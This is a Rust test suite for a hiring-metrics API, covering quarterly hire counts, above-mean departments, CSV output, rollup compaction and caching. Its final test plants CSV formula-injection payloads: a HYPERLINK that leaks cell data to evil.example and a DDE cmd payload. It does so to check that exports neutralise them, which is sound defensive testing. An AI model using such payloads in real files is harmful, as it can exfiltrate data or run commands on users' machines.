//! The two metrics: exact semantics, checked against SQL over the raw hires, JSON and CSV.

use serde_json::{Value, json};
use sqlx::PgPool;

use crate::helpers::TestApp;

/// Hires by quarter computed straight from `hired_employees` with half-open UTC ranges,
/// independently of the rollup the API reads.
async fn expected_hires(pool: &PgPool, year: i32) -> Vec<Value> {
    // department id and name, job id and name, Q1..Q4.
    type PairRow = (i32, String, i32, String, i64, i64, i64, i64);
    let rows: Vec<PairRow> = sqlx::query_as(
        r#"SELECT d.id, d.department, j.id, j.job,
                  count(*) FILTER (WHERE h.datetime >= make_timestamptz($1, 1, 1, 0, 0, 0, 'UTC') AND h.datetime < make_timestamptz($1, 4, 1, 0, 0, 0, 'UTC')),
                  count(*) FILTER (WHERE h.datetime >= make_timestamptz($1, 4, 1, 0, 0, 0, 'UTC') AND h.datetime < make_timestamptz($1, 7, 1, 0, 0, 0, 'UTC')),
                  count(*) FILTER (WHERE h.datetime >= make_timestamptz($1, 7, 1, 0, 0, 0, 'UTC') AND h.datetime < make_timestamptz($1, 10, 1, 0, 0, 0, 'UTC')),
                  count(*) FILTER (WHERE h.datetime >= make_timestamptz($1, 10, 1, 0, 0, 0, 'UTC') AND h.datetime < make_timestamptz($1 + 1, 1, 1, 0, 0, 0, 'UTC'))
           FROM hired_employees h JOIN departments d ON d.id = h.department_id JOIN jobs j ON j.id = h.job_id
           WHERE h.datetime >= make_timestamptz($1, 1, 1, 0, 0, 0, 'UTC') AND h.datetime < make_timestamptz($1 + 1, 1, 1, 0, 0, 0, 'UTC')
           GROUP BY d.id, j.id ORDER BY d.department COLLATE "C", j.job COLLATE "C", d.id, j.id"#,
    )
    .bind(year)
    .fetch_all(pool)
    .await
    .unwrap();
    rows.into_iter()
        .map(|(d_id, d, j_id, j, q1, q2, q3, q4)| {
            json!({"department_id": d_id, "department": d, "job_id": j_id, "job": j, "Q1": q1, "Q2": q2, "Q3": q3, "Q4": q4})
        })
        .collect()
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn the_sample_metrics_match_the_raw_hires(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.load_sample().await;
    for year in [2021, 2022] {
        let (status, body) = app.get_json(&format!("/metrics/hires?year={year}")).await;
        assert_eq!(status, 200);
        assert_eq!(body.as_array().unwrap(), &expected_hires(&app.pool, year).await, "year {year}");
    }
    let (_, hires) = app.get_json("/metrics/hires").await;
    let total: i64 = hires
        .as_array()
        .unwrap()
        .iter()
        .map(|r| ["Q1", "Q2", "Q3", "Q4"].iter().map(|q| r[q].as_i64().unwrap()).sum::<i64>())
        .sum();
    // 1,685 sample rows fall in 2021; 16 of them lack a name, 15 a department, 11 a job.
    assert_eq!(total, 1685 - 16 - 15 - 11);
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn departments_above_the_mean_use_every_department_in_the_table(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.load_sample().await;
    let (status, body) = app.get_json("/metrics/departments?year=2021").await;
    assert_eq!(status, 200);
    let expected: Vec<(i32, String, i64)> = sqlx::query_as(
        "WITH per AS (SELECT department_id, count(*) AS hired FROM hired_employees
                      WHERE datetime >= '2021-01-01T00:00:00Z' AND datetime < '2022-01-01T00:00:00Z' GROUP BY 1)
         SELECT d.id, d.department, per.hired FROM per JOIN departments d ON d.id = per.department_id
         WHERE per.hired > (SELECT sum(hired)::numeric FROM per) / (SELECT count(*) FROM departments)
         ORDER BY per.hired DESC, d.id",
    )
    .fetch_all(&app.pool)
    .await
    .unwrap();
    let expected: Vec<Value> =
        expected.into_iter().map(|(id, d, h)| json!({"id": id, "department": d, "hired": h})).collect();
    assert_eq!(body.as_array().unwrap(), &expected);
    assert_eq!(body[0], json!({"id": 8, "department": "Support", "hired": 216}));
    assert_eq!(expected.len(), 7);
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn years_are_half_open_utc_ranges_and_offsets_convert(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.load_dimensions().await;
    let csv = "1,A,2021-12-31T23:59:59Z,1,1\n2,B,2022-01-01T00:00:00Z,1,1\n3,C,2021-12-31T20:00:00-05:00,1,1\n4,D,2021-03-31T23:59:59.999999Z,1,1\n5,E,2021-04-01T00:00:00,1,1\n";
    app.upload_csv("hired_employees", csv).await;
    let (_, y2021) = app.get_json("/metrics/hires?year=2021").await;
    assert_eq!(
        y2021,
        json!([{"department_id": 1, "department": "Sales", "job_id": 1, "job": "Analyst", "Q1": 1, "Q2": 1, "Q3": 0, "Q4": 1}])
    );
    let (_, y2022) = app.get_json("/metrics/hires?year=2022").await;
    assert_eq!(
        y2022,
        json!([{"department_id": 1, "department": "Sales", "job_id": 1, "job": "Analyst", "Q1": 2, "Q2": 0, "Q3": 0, "Q4": 0}])
    );
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn hires_are_ordered_by_department_then_job_in_byte_order(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.upload_csv("departments", "1,beta\n2,Alpha\n3,alpha\n").await;
    app.upload_csv("jobs", "1,b\n2,B\n3,a\n").await;
    app.upload_csv("hired_employees", "1,A,2021-05-01T00:00:00Z,1,1\n2,B,2021-05-01T00:00:00Z,3,1\n3,C,2021-05-01T00:00:00Z,2,2\n4,D,2021-05-01T00:00:00Z,2,3\n5,E,2021-05-01T00:00:00Z,2,1\n").await;
    let (_, body) = app.get_json("/metrics/hires").await;
    let order: Vec<(String, String)> = body
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["department"].as_str().unwrap().into(), r["job"].as_str().unwrap().into()))
        .collect();
    let expected = [("Alpha", "B"), ("Alpha", "a"), ("Alpha", "b"), ("alpha", "b"), ("beta", "b")];
    assert_eq!(order, expected.map(|(d, j)| (d.to_owned(), j.to_owned())));
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn metrics_follow_updates_and_are_empty_for_a_year_without_hires(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.load_dimensions().await;
    app.upload_csv("hired_employees", "1,A,2021-05-01T00:00:00Z,1,1\n").await;
    app.upload_csv("hired_employees", "1,A,2021-11-01T00:00:00Z,2,1\n").await;
    let (_, body) = app.get_json("/metrics/hires").await;
    assert_eq!(
        body,
        json!([{"department_id": 2, "department": "Support", "job_id": 1, "job": "Analyst", "Q1": 0, "Q2": 0, "Q3": 0, "Q4": 1}])
    );
    assert_eq!(app.get_json("/metrics/hires?year=1999").await, (200, json!([])));
    assert_eq!(app.get_json("/metrics/departments?year=1999").await, (200, json!([])));
    let (status, body) = app.get_json("/metrics/hires?year=abc").await;
    assert_eq!((status, body["error"]["code"].as_str()), (400, Some("invalid_year")));
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn metrics_are_served_as_csv_on_request(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.upload_csv("departments", "1,\"Sales, EMEA\"\n2,Support\n").await;
    app.upload_csv("jobs", "1,Analyst\n").await;
    app.upload_csv("hired_employees", "1,A,2021-05-01T00:00:00Z,1,1\n").await;
    let by_query = app.client.get(app.url("/metrics/hires?format=csv")).send().await.unwrap();
    assert_eq!(by_query.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(by_query.text().await.unwrap(), "department,job,Q1,Q2,Q3,Q4\n\"Sales, EMEA\",Analyst,0,1,0,0\n");
    let by_accept =
        app.client.get(app.url("/metrics/departments?year=2021")).header("accept", "text/csv").send().await.unwrap();
    assert_eq!(by_accept.text().await.unwrap(), "id,department,hired\n1,\"Sales, EMEA\",1\n");
    let empty = app.client.get(app.url("/metrics/departments?year=1990&format=csv")).send().await.unwrap();
    assert_eq!(empty.text().await.unwrap(), "id,department,hired\n");
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn compacting_the_rollup_keeps_the_metrics_and_folds_the_deltas(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.load_sample().await;
    // Replace some hires so negative deltas exist too (a file upload compacts once it is done).
    app.upload_csv("hired_employees", "1,Moved,2021-02-01T00:00:00Z,3,3\n3,Moved,2021-12-01T00:00:00Z,4,4\n").await;
    for id in 1..=40 {
        let rows: Vec<Value> = (0..25)
            .map(|i| json!({"id": 10_000 + id * 25 + i, "name": "N", "datetime": "2021-08-01T00:00:00Z", "department_id": i % 12 + 1, "job_id": 7}))
            .collect();
        assert_eq!(app.batch("hired_employees", &Value::Array(rows)).await.0, 200);
    }
    assert_eq!(
        app.batch(
            "hired_employees",
            &json!([{"id": 5, "name": "Moved", "datetime": "2022-01-01T00:00:00Z", "department_id": 1, "job_id": 1}])
        )
        .await
        .0,
        200
    );
    let before = (app.get_json("/metrics/hires").await, app.get_json("/metrics/departments").await);
    let deltas: i64 = sqlx::query_scalar("SELECT count(*) FROM hires_rollup").fetch_one(&app.pool).await.unwrap();
    hiring::metrics::compact_rollup(&app.pool).await.unwrap();
    let folded: i64 = sqlx::query_scalar("SELECT count(*) FROM hires_rollup").fetch_one(&app.pool).await.unwrap();
    let keys: i64 = sqlx::query_scalar("SELECT count(DISTINCT (year, department_id, job_id)) FROM hires_rollup")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert!(folded < deltas, "{folded} rows after compaction, {deltas} before");
    assert_eq!(folded, keys, "one row per key");
    assert_eq!((app.get_json("/metrics/hires").await, app.get_json("/metrics/departments").await), before);
    assert_eq!(app.get_json("/metrics/hires").await.1.as_array().unwrap(), &expected_hires(&app.pool, 2021).await);
}

/// The rollup's rows with their row versions (`xmin`, the transaction that wrote each).
async fn rollup_versions(pool: &PgPool) -> Vec<(i32, i32, i32, String)> {
    sqlx::query_as("SELECT year, department_id, job_id, xmin::text FROM hires_rollup ORDER BY 1, 2, 3")
        .fetch_all(pool)
        .await
        .unwrap()
}

/// The API compacts every 5 s: a compaction with nothing to fold must write nothing. Rewriting
/// every row each time left thousands of dead rows between vacuums, and the metrics computed
/// afresh read them all (issue 17: 1.05 ms became 5.4 ms after a minute of compactions).
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn a_compaction_with_no_deltas_rewrites_nothing(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.load_sample().await;
    hiring::metrics::compact_rollup(&app.pool).await.unwrap();
    let compacted = rollup_versions(&app.pool).await;
    assert!(compacted.len() > 100, "the sample's keys: {}", compacted.len());
    for _ in 0..3 {
        hiring::metrics::compact_rollup(&app.pool).await.unwrap();
    }
    let again = rollup_versions(&app.pool).await;
    let rewritten = again.iter().filter(|row| !compacted.contains(row)).count();
    assert_eq!((rewritten, again.len()), (0, compacted.len()), "no row was rewritten");
    // A batch adds deltas to two keys: only those keys are folded again.
    let rows = json!([
        {"id": 90_001, "name": "N", "datetime": "2021-08-01T00:00:00Z", "department_id": 1, "job_id": 1},
        {"id": 90_002, "name": "N", "datetime": "2021-08-01T00:00:00Z", "department_id": 2, "job_id": 2},
    ]);
    assert_eq!(app.batch("hired_employees", &rows).await.0, 200);
    hiring::metrics::compact_rollup(&app.pool).await.unwrap();
    let after = rollup_versions(&app.pool).await;
    let rewritten: Vec<_> =
        after.iter().filter(|row| !compacted.contains(row)).map(|(year, d, j, _)| (*year, *d, *j)).collect();
    assert_eq!(rewritten, [(2021, 1, 1), (2021, 2, 2)], "only the keys with deltas");
    let mut keys: Vec<_> = after.iter().map(|(year, d, j, _)| (*year, *d, *j)).collect();
    keys.dedup();
    assert_eq!(keys.len(), after.len(), "one row per key");
    assert_eq!(app.get_json("/metrics/hires").await.1.as_array().unwrap(), &expected_hires(&app.pool, 2021).await);
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn cached_metrics_follow_changes_made_by_another_server(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.load_sample().await;
    let (_, before) = app.get_json("/metrics/departments").await;
    assert_eq!(app.get_json("/metrics/departments").await.1, before, "served again (from the cache)");
    // Another server's batch: straight through the domain, so this server only hears of it
    // through PostgreSQL's notification.
    let rows: Vec<Value> = (0..300)
        .map(|i| json!({"id": 50_000 + i, "name": "N", "datetime": "2021-05-05T00:00:00Z", "department_id": 1, "job_id": 1}))
        .collect();
    hiring::load::load_batch(
        &app.pool,
        hiring::table::Table::HiredEmployees,
        "elsewhere",
        &serde_json::to_vec(&rows).unwrap(),
    )
    .await
    .unwrap();
    let fresh: Value = app
        .client
        .get(app.url("/metrics/departments"))
        .header("cache-control", "no-cache")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(fresh[0]["hired"], 348, "no-cache computes the result now");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    let after = loop {
        let (_, now) = app.get_json("/metrics/departments").await;
        if now != before || std::time::Instant::now() > deadline {
            break now;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    };
    // Product Management (id 1) had 48 hires in 2021, below the mean; 300 more put it first.
    assert_eq!(after[0], json!({"id": 1, "department": "Product Management", "hired": 348}), "{after}");
}

/// The container's health check (`hiring-api --health`) passes against a running server and
/// fails, saying where it looked, when nothing listens.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn the_health_check_command_asks_the_running_server(pool: PgPool) {
    let app = TestApp::start(pool).await;
    let listen = app.base.trim_start_matches("http://").to_owned();
    let result = tokio::task::spawn_blocking(move || api::health_check(Some(&listen))).await.expect("joined");
    assert!(result.is_ok(), "{result:?}");
    let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("a port").local_addr().expect("an address");
    let error = tokio::task::spawn_blocking(move || api::health_check(Some(&closed.to_string())))
        .await
        .expect("joined")
        .expect_err("nothing listens there");
    assert!(error.to_string().contains("nothing answers on 127.0.0.1"), "{error}");
}

#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn departments_with_the_same_name_stay_apart_keyed_by_id(pool: PgPool) {
    let app = TestApp::start(pool).await;
    app.upload_csv("departments", "1,Sales\n2,Sales\n").await;
    app.upload_csv("jobs", "1,Analyst\n").await;
    app.upload_csv(
        "hired_employees",
        "1,Ann,2021-02-03T04:05:06Z,1,1\n2,Bo,2021-02-04T04:05:06Z,1,1\n3,Cy,2021-02-05T04:05:06Z,2,1\n",
    )
    .await;
    let (status, rows) = app.get_json("/metrics/hires?year=2021").await;
    assert_eq!(status, 200, "{rows}");
    let rows: Vec<(i64, &str, i64, i64)> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            let id = row["department_id"].as_i64().expect("each row names its department's id");
            assert_eq!(row["job_id"], 1, "and its job's id: {row}");
            (id, row["department"].as_str().unwrap(), row["Q1"].as_i64().unwrap(), row["Q2"].as_i64().unwrap())
        })
        .collect();
    assert_eq!(rows, [(1, "Sales", 2, 0), (2, "Sales", 1, 0)], "two departments, never merged by name");
    // The CSV keeps the contract's columns.
    let csv =
        app.client.get(app.url("/metrics/hires?year=2021&format=csv")).send().await.unwrap().text().await.unwrap();
    assert_eq!(csv, "department,job,Q1,Q2,Q3,Q4\nSales,Analyst,2,0,0,0\nSales,Analyst,1,0,0,0\n");
    // The report's chart has a bar for each department.
    let page = app.client.get(app.url("/?year=2021")).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("3 hires in 2 departments"), "{page}");
}

/// A name that starts a spreadsheet formula is served as text in every CSV answer,
/// and verbatim in JSON.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn csv_answers_never_carry_a_live_formula(pool: PgPool) {
    let app = TestApp::start(pool).await;
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    // Two departments, so the formula's one hires above the mean.
    let (status, body) = app
        .batch(
            "departments",
            &serde_json::json!([{"id": 1, "department": formula}, {"id": 2, "department": "Support"}]),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    for (id, job) in [(1, "+1+cmd|' /C calc'!A0"), (2, "@SUM(1+1)"), (3, "-2+3"), (4, "\tTab"), (5, "Analyst")] {
        app.batch("jobs", &serde_json::json!([{"id": id, "job": job}])).await;
    }
    let mut hires: Vec<_> = (1..=5)
        .map(|job| serde_json::json!({"id": job, "name": format!("Ann {job}"), "datetime": "2021-02-01T00:00:00Z", "department_id": 1, "job_id": job}))
        .collect();
    hires.push(
        serde_json::json!({"id": 6, "name": "Bo", "datetime": "2021-02-01T00:00:00Z", "department_id": 2, "job_id": 5}),
    );
    assert_eq!(app.batch("hired_employees", &serde_json::json!(hires)).await.0, 200);

    for path in ["/metrics/hires?year=2021&format=csv", "/metrics/departments?year=2021&format=csv"] {
        let text = app
            .client
            .get(app.url(path))
            .bearer_auth(crate::helpers::READ_TOKEN)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: a live formula cell {cell:?} in\n{text}"
                );
            }
        }
        assert!(text.contains("'=HYPERLINK("), "{path}: the name is kept, as text:\n{text}");
    }
    let (_, json) = app.get_json("/metrics/hires?year=2021").await;
    assert!(json.to_string().contains(r#"=HYPERLINK(\"http://evil.example"#), "JSON stays verbatim: {json}");
}
